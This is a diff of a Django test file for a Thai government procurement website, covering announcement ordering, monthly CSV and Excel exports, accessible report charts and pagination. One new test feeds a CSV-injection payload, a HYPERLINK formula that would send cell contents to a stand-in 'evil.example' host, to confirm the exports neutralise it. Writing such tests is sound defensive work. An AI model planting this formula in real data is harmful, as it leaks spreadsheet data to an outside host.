@@ -63,7 +63,9 @@ def test_project_page_shows_announcements_in_order_and_award(client, make):
     make.announce(award.project, AnnouncementKind.DRAFT_TOR, day=datetime.date(2025, 11, 1),
                   hearing_opens_on=datetime.date(2025, 11, 1), hearing_closes_on=datetime.date(2025, 11, 5))
     body = client.get(award.project.get_absolute_url()).content.decode()
-    positions = [body.index(label) for label in ("ร่างขอบเขตของงาน (TOR)", "ประกาศเชิญชวน", "ประกาศผู้ชนะการเสนอราคา")]
+    positions = [
+        body.index(label) for label in ("ร่างขอบเขตของงาน (TOR)", "ประกาศเชิญชวน", "ประกาศผู้ชนะการเสนอราคา")
+    ]
     assert positions == sorted(positions)
     assert award.contract_number in body and "ผู้ได้รับการคัดเลือก" in body
 
@@ -79,16 +81,18 @@ def test_monthly_page_columns_in_official_order(client, make):
     assert "งานเดือนมกราคม" not in body
 
 
-def test_monthly_csv_and_xlsx_have_title_and_columns(client, make):
+def test_monthly_csv_is_tidy_and_xlsx_keeps_the_title(client, make):
     award = make.awarded(contract_date=datetime.date(2025, 12, 5), amounts=("950000.00", "990000.50"))
     response = client.get(reverse("procurement:monthly_csv", args=[2568, 12]))
+    assert response["Content-Disposition"] == 'attachment; filename="sor-kor-ror-1-2568-12.csv"'
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    assert rows[0] == ["สรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือน ธันวาคม 2568"]
-    assert rows[1] == OFFICIAL_COLUMNS
-    assert rows[2][0] == "1" and rows[2][1] == award.project.title
-    assert rows[2][3] == "1,000,000.00" and "990,000.50" in rows[2][5]
-    assert "บริษัท ก จำกัด ราคาที่ตกลง 950,000.00 บาท" == rows[2][6]
-    assert rows[2][8].startswith(f"สัญญาเลขที่ {award.contract_number} ลงวันที่ 5 ธันวาคม 2568")
+    # Open data: the header row first, every row as wide as the header (the title is on the page).
+    assert rows[0] == OFFICIAL_COLUMNS
+    assert {len(row) for row in rows} == {len(OFFICIAL_COLUMNS)}
+    assert rows[1][0] == "1" and rows[1][1] == award.project.title
+    assert rows[1][3] == "1,000,000.00" and "990,000.50" in rows[1][5]
+    assert "บริษัท ก จำกัด ราคาที่ตกลง 950,000.00 บาท" == rows[1][6]
+    assert rows[1][8].startswith(f"สัญญาเลขที่ {award.contract_number} ลงวันที่ 5 ธันวาคม 2568")
 
     response = client.get(reverse("procurement:monthly_xlsx", args=[2568, 12]))
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
@@ -97,6 +101,20 @@ def test_monthly_csv_and_xlsx_have_title_and_columns(client, make):
     assert values[0][0] == "สรุปผลการดำเนินการจัดซื้อจัดจ้างในรอบเดือน ธันวาคม 2568"
     assert values[2] == OFFICIAL_COLUMNS
     assert values[3][1] == award.project.title
+
+
+def test_monthly_exports_never_run_a_title_as_a_formula(client, make):
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
+    make.awarded(title=hostile, winner="@SUM(1+1)")
+    rows = list(csv.reader(io.StringIO(
+        client.get(reverse("procurement:monthly_csv", args=[2568, 12])).content.decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + hostile
+    sheet = load_workbook(
+        io.BytesIO(client.get(reverse("procurement:monthly_xlsx", args=[2568, 12])).content)
+    ).active
+    title_cell = sheet.cell(4, 2)
+    assert title_cell.value == hostile and title_cell.data_type == "s"
+    assert sheet.cell(4, 7).data_type == "s"
 
 
 @pytest.mark.parametrize("size", [2, 20])
@@ -116,9 +134,14 @@ def test_annual_report_numbers_match_between_chart_and_table(client, make):
     make.awarded(amounts=("123456.78",), reference="200000.00", method=ProcurementMethod.SPECIFIC,
                  budget="200000.00")
     body = client.get(reverse("procurement:annual_report", args=[2569])).content.decode()
-    # The same figure appears in the SVG (text) and in the table cell.
-    assert body.count("123,456.78") >= 4
-    assert '<svg class="chart-svg"' in body and 'role="img"' in body
+    # The same figure appears in the SVG (text) and in each chart's table: by method and by month.
+    assert body.count('class="chart-value">123,456.78<') == 2
+    assert body.count('<td class="text-end">123,456.78</td>') >= 2
+    # The drawing is a picture of its table: hidden from screen readers, which read the table.
+    assert (
+        body.count('<svg class="chart-svg"') == 3 and body.count('aria-hidden="true" focusable="false"') == 3
+    )
+    assert body.count("<caption>ตัวเลขของแผนภูมิ:") == 3 and "<span hidden" not in body
 
 
 def test_index_and_announcements(client, make):
@@ -138,7 +161,9 @@ def test_plan_is_paginated_and_keeps_the_filter(client, make):
                  planned_month=datetime.date(2025, 11, 1), division="กองคลัง") for n in range(101))
     first = client.get(reverse("procurement:plan", args=[2569]), {"method": "specific"}).content.decode()
     assert "รายการลำดับ 100" not in first and "?method=specific&amp;page=2" in first
-    second = client.get(reverse("procurement:plan", args=[2569]), {"method": "specific", "page": 2}).content.decode()
+    second = client.get(
+        reverse("procurement:plan", args=[2569]), {"method": "specific", "page": 2}
+    ).content.decode()
     assert "รายการลำดับ 100" in second
 
 
@@ -151,8 +176,13 @@ def test_other_pages_queries_do_not_grow(client, make, size, django_assert_max_n
         award = make.awarded()
     Bid.objects.bulk_create(Bid(project=award.project, bidder_name=f"ผู้เสนอ {n}", amount="999999.00")
                             for n in range(size))
-    tor = make.announce(award.project, AnnouncementKind.DRAFT_TOR, day=datetime.date(2025, 11, 1),
-                        hearing_opens_on=datetime.date(2025, 11, 1), hearing_closes_on=datetime.date(2025, 11, 5))
+    tor = make.announce(
+        award.project,
+        AnnouncementKind.DRAFT_TOR,
+        day=datetime.date(2025, 11, 1),
+        hearing_opens_on=datetime.date(2025, 11, 1),
+        hearing_closes_on=datetime.date(2025, 11, 5),
+    )
     HearingComment.objects.bulk_create(HearingComment(announcement=tor, body="ความคิดเห็น", response="ตอบ")
                                        for _n in range(size))
     for url in (reverse("procurement:index"), award.project.get_absolute_url(),
